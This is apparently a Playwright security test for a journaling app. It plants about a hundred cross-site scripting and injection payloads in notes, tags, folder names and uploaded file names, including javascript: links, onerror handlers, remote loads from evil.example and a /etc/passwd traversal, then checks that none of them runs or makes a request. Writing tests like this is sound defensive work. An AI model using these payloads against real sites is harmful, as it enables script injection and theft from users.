import { mkdirSync } from "node:fs";
import { paper, png, put } from "./scans";
import { expect, test } from "./test";

// Each would run, load or send something if it were taken for more than words.
const payloads = [
  `<script>pwned("s")</script>`,
  `<img src=x onerror=pwned("i")>`,
  `<img src="https://evil.example/p.png">`,
  `![pic](https://evil.example/p.png)`,
  `![pic][ref]\n\n[ref]: https://evil.example/ref.png`,
  `![](javascript:pwned("mi"))`,
  `<svg onload=pwned("svg")>`,
  `<svg><script>pwned("svgs")</script></svg>`,
  `<svg><animate onbegin=pwned("an") attributeName=x dur=1s>`,
  `<iframe src="javascript:pwned('f')"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned('sd')</script>"></iframe>`,
  `<object data="javascript:pwned('o')"></object>`,
  `<embed src="https://evil.example/e.swf">`,
  `<link rel=stylesheet href="https://evil.example/s.css">`,
  `<style>@import url("https://evil.example/s.css"); body{display:none}</style>`,
  `<style>body{background:url("https://evil.example/b.png")}</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><button>x</button></form>`,
  `<input autofocus onfocus=pwned("in")>`,
  `<body onload=pwned("b")>`,
  `<details open ontoggle=pwned("d")>x</details>`,
  `<video src=x onerror=pwned("v")></video>`,
  `<video poster="https://evil.example/p.png"></video>`,
  `<audio src="https://evil.example/a.mp3" autoplay></audio>`,
  `<math><mtext></table><img src=x onerror=pwned("m")>`,
  `<a href="javascript:pwned('a')">click</a>`,
  `[click](javascript:pwned("l"))`,
  `[click](JaVaScRiPt:pwned("l2"))`,
  `[click](data:text/html,<script>pwned("dt")</script>)`,
  `[click](vbscript:pwned("vb"))`,
  `[click](//evil.example/x)`,
  `[click](&#106;avascript:pwned("ent"))`,
  `[click](<javascript:pwned("ang")>)`,
  `<javascript:pwned("auto")>`,
  `<https://evil.example/auto>`,
  `https://evil.example/bare`,
  `[[javascript:pwned("w")]]`,
  `[[x|<img src=x onerror=pwned("wl")>]]`,
  `![[<img src=x onerror=pwned("we")>]]`,
  `[[../../../etc/passwd]]`,
  `#<img/src=x/onerror=pwned("t")>`,
  `#tag"onmouseover="pwned('tq')`,
  `[<img src=x onerror=pwned("q")>?]`,
  `[illegible<script>pwned("il")</script>]`,
  `\`<script>pwned("c")</script>\``,
  "```html\n<script>pwned('cb')</script>\n```",
  `<div style="background:url(https://evil.example/st.png)">x</div>`,
  `<div onclick=pwned("oc") style="position:fixed;inset:0">x</div>`,
  `<x-cite>1</x-cite><x-mark>m</x-mark><x-tag>t</x-tag>`,
  `<x-wikilink data-target="javascript:pwned('xw')">x</x-wikilink>`,
  `<a id=root name=root></a><form id=location></form>`,
  `<table><tr><td background="https://evil.example/td.png">x</td></tr></table>`,
  `| a | b |\n|---|---|\n| <img src=x onerror=pwned("tb")> | ![](https://evil.example/t.png) |`,
  `- [ ] <img src=x onerror=pwned("li")>`,
  `> <script>pwned("bq")</script>`,
  `# <img src=x onerror=pwned("h")>`,
  `[^1]\n\n[^1]: <img src=x onerror=pwned("fn")>`,
  `&lt;script&gt;pwned("esc")&lt;/script&gt;`,
  `<scr<script>ipt>pwned("nest")</scr</script>ipt>`,
  `<img src="x\` \`onerror=pwned("bt")">`,
  `<!--><img src=x onerror=pwned("cm")>-->`,
  `<![CDATA[<img src=x onerror=pwned("cd")>]]>`,
  `<?xml version="1.0"?><?xml-stylesheet href="javascript:pwned('xs')"?>`,
  `\u202e<script>pwned("rtl")</script>`,
  `<img srcset="https://evil.example/a.png 1x">`,
  `<picture><source srcset="https://evil.example/b.png"><img></picture>`,
  `<button formaction="javascript:pwned('fa')">x</button>`,
  `<isindex action="javascript:pwned('ii')">`,
  `<marquee onstart=pwned("mq")>x</marquee>`,
  `<noscript><p title="</noscript><img src=x onerror=pwned('ns')>">`,
  `<template><script>pwned("tp")</script></template>`,
  `<a href="https://evil.example/" ping="https://evil.example/ping">x</a>`,
  `<link rel=preconnect href="https://evil.example/">`,
  `<link rel=dns-prefetch href="//evil.example/">`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script type=module>import "https://evil.example/m.js"</script>`,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<textarea><img src=x onerror=pwned("ta")></textarea>`,
  `<title><img src=x onerror=pwned("ti")></title>`,
  `{{constructor.constructor("pwned(1)")()}}`,
  `\${pwned("tl")}`,
  `<math href="javascript:pwned('mh')">x</math>`,
  `<svg><a xlink:href="javascript:pwned('xl')"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload=pwned('u')>"/></svg>`,
  `<svg><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>`,
  `<svg><image href="https://evil.example/si.png"/></svg>`,
  `<animate onbegin=pwned("ab")>`,
  `<dialog open onclose=pwned("dl")>x</dialog>`,
  `<a href="java\nscript:pwned('nl')">x</a>`,
  `[x](java\tscript:pwned("tab"))`,
  `[x](\u0001javascript:pwned("ctl"))`,
  `[x](https://evil.example/"onclick="pwned('qa'))`,
  `[x](https://evil.example/ "t\\" onmouseover=pwned('tt')")`,
  `\\<script>pwned("bs")\\</script>`,
  `**<b onmouseover=pwned("bo")>bold</b>**`,
  `~~<s onclick=pwned("st")>x</s>~~`,
  `<keygen autofocus onfocus=pwned("kg")>`,
  `<img src='https://evil.example/1.png'/**/onerror=pwned("cmt")>`,
  `<object type="text/x-scriptlet" data="https://evil.example/o"></object>`,
];

const days = payloads.map((_, i) => new Date(Date.UTC(2023, 0, 1 + i)).toISOString().slice(0, 10));
const american = (day: string) => `${day.slice(5, 7)}-${day.slice(8)}-${day.slice(0, 4)}`;
const folder = `a <img src=x onerror=pwned('dir')> & "b" #c`;
const evergreen = [`<img src=x onerror=pwned('name')>`, `javascript:pwned('ever')`, `"><svg onload=pwned('q')>`];

test.use({
  options: {
    journal: (journal) => {
      put(journal, Object.fromEntries(payloads.map((payload, i) => [`${folder}/${american(days[i]!)}.md`, `Quagga number ${i}.\n\n${payload}\n\nAfter it. #tag/${encodeURIComponent("x")}\n`])));
      put(journal, { "06-04-2022.md": `Tags: #a"b #<script> #\u202eevil #x'onerror=1 #ok\n` });
      mkdirSync(`${journal}-evergreen`);
      put(`${journal}-evergreen`, Object.fromEntries(evergreen.map((name) => [`${name.replaceAll("/", "")}.md`, `${payloads[1]}\n${payloads[3]}\n`])));
    },
    env: { DAYBOOK_MODEL_TRANSCRIPTION: "openai/gpt-4o" },
  },
});

// The fixture "watched" fails the test for any request elsewhere, and for whatever the policy had to stop.
test("a hundred payloads in notes, names and tags stay words", async ({ page, daybook, fake }) => {
  test.setTimeout(240_000);
  expect(payloads.length).toBeGreaterThanOrEqual(100);
  const ran: string[] = [];
  await page.exposeFunction("pwned", (what: unknown) => ran.push(String(what)));
  page.on("dialog", (dialog) => {
    ran.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });

  for (const [i, day] of days.entries()) {
    // Within the app, so that a hundred are looked at in time.
    if (i === 0) await page.goto(`/app/journal/${day}`);
    else await page.keyboard.press("ArrowRight");
    await expect(page.getByText(`Quagga number ${i}.`)).toBeVisible();
    const left = await page.locator("main").evaluate((main) => {
      const bad = main.querySelectorAll("script, iframe, object, embed, form, link, meta, base, style, img:not([src^='/']), video, audio, math, input:not([type=checkbox][disabled]), svg script, [style*=url]");
      const events = [...main.querySelectorAll("*")].flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith("on")));
      const links = [...main.querySelectorAll("a")].map((a) => a.getAttribute("href") ?? "").filter((href) => !/^(\/app\/|https?:|mailto:)/.test(href));
      return [...bad].map((element) => element.outerHTML).concat(events, links);
    });
    expect(left, payloads[i]).toEqual([]);
    for (const link of await page.locator(".entry a[target=_blank]").all()) {
      await link.click();
      await expect(page.getByRole("dialog", { name: "Leave Daybook?" })).toBeVisible();
      await page.keyboard.press("Escape");
      await expect(page.getByRole("dialog", { name: "Leave Daybook?" })).toBeHidden();
    }
  }

  await page.goto("/app/journal/2023-01-01?edit");
  await expect(page.getByRole("textbox", { name: "Note" })).toBeVisible();
  await page.goto("/app/search?q=quagga");
  await expect(page.locator(".result").first()).toBeVisible();
  await page.goto(`/app/search?q=${encodeURIComponent(payloads[0]!)}&tag=${encodeURIComponent(payloads[1]!)}`);
  await expect(page.getByRole("heading", { name: "Search" })).toBeVisible();
  await page.goto("/app/journal/2022-06-04");
  await expect(page.getByText("Tags:")).toBeVisible();
  await page.goto("/app/journal");
  await expect(page.locator(".year-map").first()).toBeVisible();
  await page.goto(`/app/journal/note/${encodeURIComponent(`"><img src=x onerror=pwned('id')>`)}`);
  await expect(page.getByRole("alert")).toBeVisible();

  // What a model says of a page, and what a file is called.
  await fake.rules([{ images: true, text: payloads.slice(0, 30).join("\n\n") }]);
  await page.goto("/app/add?day=2021-05-05");
  await page.getByLabel("Pages to add", { exact: true }).setInputFiles([
    { name: `<img src=x onerror=pwned('file')>.png`, mimeType: "image/png", buffer: png(200, 283, paper(200, 283, 1)) },
    { name: `05-05-2021"onload="pwned('f2').png`, mimeType: "image/png", buffer: Buffer.from(`<svg onload="pwned('svgfile')" xmlns="http://www.w3.org/2000/svg"/>`) },
    { name: `x.svg`, mimeType: "image/svg+xml", buffer: Buffer.from(`<svg onload="pwned('svg')" xmlns="http://www.w3.org/2000/svg"><script>pwned("s")</script></svg>`) },
  ]);
  await page.getByRole("button", { name: "Add 3 files to the journal" }).click();
  await expect(page.getByRole("link", { name: "Open the day" })).toBeVisible({ timeout: 40_000 });
  await expect(page.getByRole("button", { name: "Send again" })).toHaveCount(2);
  await page.getByRole("link", { name: "Open the day" }).click();
  await expect(page.locator(".entry .prose").first()).toBeVisible();
  await page.waitForTimeout(500);
  expect(ran).toEqual([]);
  void daybook;
});
